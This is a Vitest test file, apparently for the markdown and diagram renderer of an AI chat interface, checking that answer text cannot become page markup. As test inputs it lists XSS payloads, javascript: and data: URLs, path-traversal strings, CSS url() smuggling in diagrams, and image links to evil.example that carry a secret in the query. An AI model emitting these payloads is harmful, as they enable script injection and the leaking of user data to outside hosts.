import { expect, test } from 'vitest'
import { diagramSource } from './diagram-source.ts'
import { renderMarkdown } from './testing/render-markdown.tsx'

const tags = (html: string) => new Set([...html.matchAll(/<([a-z0-9]+)/g)].map((match) => match[1]))
const allowed = new Set([
  'p',
  'br',
  'span',
  'a',
  'strong',
  'em',
  'code',
  'div',
  'button',
  'pre',
  'img',
  'ul',
  'li',
])

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <img src=x onerror=alert(1)> more',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>body{background:url(https://evil)}</style>',
  '<details ontoggle=alert(1) open>x</details>',
  '<kbd onclick=alert(1)>x</kbd>',
  '<!-- --><script>alert(1)</script>',
  '<div\nonclick="alert(1)">x</div>',
  '- <b onclick=alert(1)>x</b>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '[<img src=x onerror=alert(1)>](https://e.com)',
  '[x](https://e.com "\\"><img src=x onerror=alert(1)>")',
  '![<script>](https://e.com/x.png)',
  '$<img src=x onerror=alert(1)>^2$',
  '\uE0000\uE001 $x$ \uE0019\uE001',
])('no markup of the answer becomes markup of the page: %j', (source) => {
  for (const streaming of [false, true]) {
    const html = renderMarkdown(source, streaming)
    for (const tag of tags(html)) expect(allowed).toContain(tag)
    expect(html.replace(/&lt;[\s\S]*?&gt;/g, '')).not.toMatch(/<[^>]*\son[a-z]+\s*=/i)
    expect(html).not.toMatch(/<img[^>]*src="x"/)
  }
})

test.each([
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:x',
  'file:///etc/passwd',
  'blob:https://e.com/1',
  '//evil.com/x',
  '/\\evil.com',
  '\\\\evil.com',
  'intent://x',
  'https:evil.com',
  'relative/path',
])('the address %j is no link', (address) => {
  expect(renderMarkdown(`[x](<${address}>)`)).not.toContain('<a ')
  expect(renderMarkdown(`[x](${address})`)).not.toContain('<a ')
})

test('a link that is refused shows as it was written', () => {
  expect(renderMarkdown('[click](javascript:alert)')).toBe('<p>[click](javascript:alert)</p>')
})

test.each([
  'https://evil.example/?q=secret',
  'http://evil.example/x.png',
  'HTTPS://evil.example/x.png',
])('a picture on another site is not fetched before it is asked for: %j', (address) => {
  const html = renderMarkdown(`![words](${address})`)
  expect(html).not.toContain('<img')
  expect(html).toContain('Picture on evil.example')
  expect(html).toContain('words')
  expect(html).toContain('Show picture')
})

test.each([
  '/api/picture?url=https://evil.example/?q=secret',
  '/api/upload/file/../../picture?url=https://evil.example',
  '/api/upload/file/%2e%2e/%2e%2e/picture?url=https://evil.example',
  '/api/upload/../picture?url=https://evil.example',
  '/api/upload\\..\\picture?url=x',
  '/\\evil.example/api/upload/file',
  '//evil.example/api/upload/file',
  '/api/user/checkin',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'data:image/png,<svg>',
  'data:text/html;base64,AAAA',
  'x.png',
])('the address %j loads no picture by itself', (address) => {
  expect(renderMarkdown(`![a](<${address}>)`)).not.toContain('<img')
})

test.each(['/api/upload/file?id=1&key=abc', 'data:image/png;base64,iVBORw0KGgo='])(
  'a picture of our own is shown at once: %j',
  (address) => {
    expect(renderMarkdown(`![a](${address})`)).toContain(`<img class="md-picture"`)
  },
)

test('while its address is being written a picture loads nothing', () => {
  for (const source of [
    '![a](/api/upload/file?id=1&ke',
    '![a](https://evil.example/?q=se',
    '![a',
  ]) {
    expect(renderMarkdown(source, true)).not.toContain('<img')
  }
})

test('a picture in a link is its words', () => {
  const html = renderMarkdown('[![badge](https://evil.example/b.svg)](https://e.com)')
  expect(html).not.toContain('<img')
  expect(html).toContain('>badge</a>')
})

test.each([
  'flowchart LR\n A@{ img: "https://evil.example/x.png" }',
  'flowchart LR\n A-->B\n style A fill:url(https://evil.example)',
  'flowchart LR\n A-->B\n style A fill:u\\72l(x)',
  'flowchart LR\n A["<img src=https://evil.example/x>"]',
  'flowchart LR\n A["`![x](https://evil.example/x)`"]',
  'flowchart LR\n A["<style>@import x</style>"]',
  'C4Context\n Person(a, "A", $sprite="https://evil.example/x.png")',
  'stateDiagram-v2\n [*] --> A classDef x background:u\\72l(x)\n class A x',
  'stateDiagram-v2\n [*] --> A\n classDef x background:\\000075r\\6c (x)\n class A x',
  'flowchart LR\n A@{ label: "}", img: "https://evil.example/x.png" }',
  'flowchart LR\n A@{ "i\\x6dg": "https://evil.example/x.png" }',
  'flowchart LR\n A@{ "\\u0069mg": "https://evil.example/x.png" }',
  '%%%{x}%%%{init: {"themeCSS": "* { background: u\\\\72l(x) }"}}%%\nflowchart LR\n A-->B',
  'flowchart LR\n A-->B\n%%{init: {"themeCSS": "* { background: u\\\\72l(x) }"}',
  '%%{x}%%---\nconfig:\n  themeCSS: "* { background: u\\\\72l(x) }"\n---\nflowchart LR\n A-->B',
  '---\na: b\n---\n---\nconfig:\n  themeCSS: "* { background: u\\\\72l(x) }"\n---\nflowchart LR\n A-->B',
])('a diagram that reaches out is refused: %j', (code) => {
  expect(diagramSource(code)).toBeNull()
})

test.each([
  [
    '%%{init: {"themeCSS": "* { background: red }"}}%%\nflowchart LR\n A-->B',
    '\nflowchart LR\n A-->B',
  ],
  ['---\nconfig:\n  themeCSS: x\n---\nflowchart LR\n A-->B', 'flowchart LR\n A-->B'],
  ['flowchart LR\n A[看 https://e.com]-->B', 'flowchart LR\n A[看 https://e.com]-->B'],
  ['flowchart LR\n A["C:\\new\\ffffff"]-->B', 'flowchart LR\n A["C:\\new\\ffffff"]-->B'],
  ['flowchart LR\n A@{ label: "a\\nb" }', 'flowchart LR\n A@{ label: "a\\nb" }'],
])('the settings in a diagram are left out: %j', (code, source) => {
  expect(diagramSource(code)).toBe(source)
})
